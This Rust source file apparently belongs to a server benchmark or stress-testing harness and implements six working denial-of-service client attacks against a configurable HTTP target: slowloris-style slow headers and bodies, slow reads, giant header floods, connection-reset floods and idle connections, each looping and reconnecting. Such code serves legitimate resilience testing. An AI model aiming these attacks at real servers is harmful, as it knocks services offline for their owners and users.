//! The attacks. Each attacker is a task with a connection that it opens again when it is closed.

use std::net::SocketAddr;
use std::time::Duration;

use rustix::net::sockopt::set_socket_linger;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinHandle;

/// Between two bytes of a slow attacker, and two connections of one in a flood.
const SLOW: Duration = Duration::from_millis(500);
const PAUSE: Duration = Duration::from_millis(100);

/// What hostile clients do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Heads, a byte at a time.
    SlowHead,
    /// Bodies, a byte at a time.
    SlowBody,
    /// Large answers that nobody reads.
    SlowRead,
    /// Heads larger than any.
    HeadBomb,
    /// Connections that are reset as soon as they are there.
    ResetFlood,
    /// Connections that send nothing.
    Idle,
}

/// All of them.
pub const ATTACKS: [Attack; 6] = [
    Attack::SlowHead,
    Attack::SlowBody,
    Attack::SlowRead,
    Attack::HeadBomb,
    Attack::ResetFlood,
    Attack::Idle,
];

impl Attack {
    /// For people.
    pub const fn name(self) -> &'static str {
        match self {
            Self::SlowHead => "slow heads",
            Self::SlowBody => "slow bodies",
            Self::SlowRead => "slow reads",
            Self::HeadBomb => "head bombs",
            Self::ResetFlood => "flood of resets",
            Self::Idle => "idle connections",
        }
    }

    /// Starts `count` attackers.
    pub fn start(self, target: SocketAddr, count: usize) -> Vec<JoinHandle<()>> {
        (0..count)
            .map(|_| {
                tokio::task::spawn_local(async move {
                    loop {
                        if let Ok(stream) = TcpStream::connect(target).await {
                            // Being closed is what an attacker expects.
                            let _ = self.on(stream).await;
                        }
                        tokio::time::sleep(PAUSE).await;
                    }
                })
            })
            .collect()
    }

    async fn on(self, mut stream: TcpStream) -> std::io::Result<()> {
        match self {
            Self::SlowHead => {
                stream.write_all(b"GET / HTTP/1.1\r\nHost: bench.local\r\nX: ").await?;
                trickle(&mut stream).await
            }
            Self::SlowBody => {
                stream
                    .write_all(b"POST /128 HTTP/1.1\r\nHost: bench.local\r\nContent-Length: 1000000\r\n\r\n")
                    .await?;
                trickle(&mut stream).await
            }
            Self::SlowRead => {
                let request = b"GET /1m HTTP/1.1\r\nHost: bench.local\r\n\r\n".repeat(20);
                stream.write_all(&request).await?;
                loop {
                    tokio::time::sleep(SLOW).await;
                    if stream.read(&mut [0; 1]).await? == 0 {
                        return Ok(());
                    }
                }
            }
            Self::HeadBomb => {
                stream.write_all(b"GET / HTTP/1.1\r\nHost: bench.local\r\n").await?;
                for _ in 0..1000 {
                    stream.write_all(&[b'x'; 1000]).await?;
                }
                Ok(())
            }
            Self::ResetFlood => Ok(set_socket_linger(&stream, Some(Duration::ZERO))?),
            Self::Idle => stream.read(&mut [0; 1]).await.map(|_| ()),
        }
    }
}

async fn trickle(stream: &mut TcpStream) -> std::io::Result<()> {
    loop {
        stream.write_all(b"x").await?;
        tokio::time::sleep(SLOW).await;
    }
}
